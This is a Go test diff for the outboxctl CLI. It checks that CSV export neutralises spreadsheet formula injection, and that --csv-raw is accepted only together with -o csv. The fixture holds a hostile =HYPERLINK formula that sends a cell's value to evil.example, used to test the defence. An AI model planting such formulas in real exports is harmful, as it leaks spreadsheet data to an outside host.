@@ -2,8 +2,10 @@ package cmd_test
 
 import (
 	"context"
+	"encoding/csv"
 	"math/rand/v2"
 	"net/url"
+	"slices"
 	"strings"
 	"testing"
 
@@ -108,4 +110,45 @@ func sharesFragment(text, pw string) bool {
 		}
 	}
 	return false
+}
+
+// TestCSVOfHostilePayloads runs inspect object -o csv on a text payload a spreadsheet would
+// run and a jsonb one: the formula gets a leading ', the ids (numbers) stay, the jsonb
+// payload is its JSON text (main printed [123 34 …] and the formula as it was); --csv-raw
+// prints the formula as it is; --csv-raw without -o csv is a usage error.
+func TestCSVOfHostilePayloads(t *testing.T) {
+	t.Parallel()
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	text := testdb.Schema(t, fixture.Options{Payload: fixture.PayloadText})
+	jsonb := testdb.Schema(t, fixture.Options{})
+	testdb.Insert(t, text, "sentry_regionoutbox", testdb.Row{Scope: 0, Shard: 9, Category: 2, Object: 9, Payload: testdb.Str(formula)})
+	testdb.Insert(t, jsonb, "sentry_regionoutbox", testdb.Row{Scope: 0, Shard: 9, Category: 2, Object: 9, Payload: testdb.Str(`{"note": "-1"}`)})
+	// The cells a spreadsheet reads: the CSV parsed, up to the payload.
+	cells := func(schema string, extra ...string) []string {
+		out, _ := mustRun(t, cmd.ExitOK, schema, append([]string{"inspect", "object", "ORGANIZATION_UPDATE", "9", "-o", "csv"}, extra...)...)
+		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil || len(recs) != 2 || !slices.Equal(recs[0][:8], []string{"id", "shard_scope", "scope", "shard_identifier", "category", "category_name", "object_identifier", "payload"}) {
+			t.Fatalf("csv (%v):\n%s", err, out)
+		}
+		return recs[1][1:8]
+	}
+	for _, tc := range []struct {
+		schema  string
+		extra   []string
+		payload string
+	}{
+		{text, nil, "'" + formula},
+		{text, []string{"--csv-raw"}, formula},
+		{jsonb, nil, `{"note": "-1"}`},
+	} {
+		want := []string{"0", "ORGANIZATION_SCOPE", "9", "2", "ORGANIZATION_UPDATE", "9", tc.payload}
+		if got := cells(tc.schema, tc.extra...); !slices.Equal(got, want) {
+			t.Errorf("%v: cells %q, want %q", tc.extra, got, want)
+		}
+	}
+	_, errOut := mustRun(t, cmd.ExitUsage, jsonb, "inspect", "object", "ORGANIZATION_UPDATE", "9", "--csv-raw")
+	if want := "Error: --csv-raw goes with -o csv (it leaves CSV cells that start with = + - @ unneutralised)\n" +
+		"Try: outboxctl inspect object -o csv --csv-raw\n"; errOut != want {
+		t.Errorf("stderr %q, want %q", errOut, want)
+	}
 }
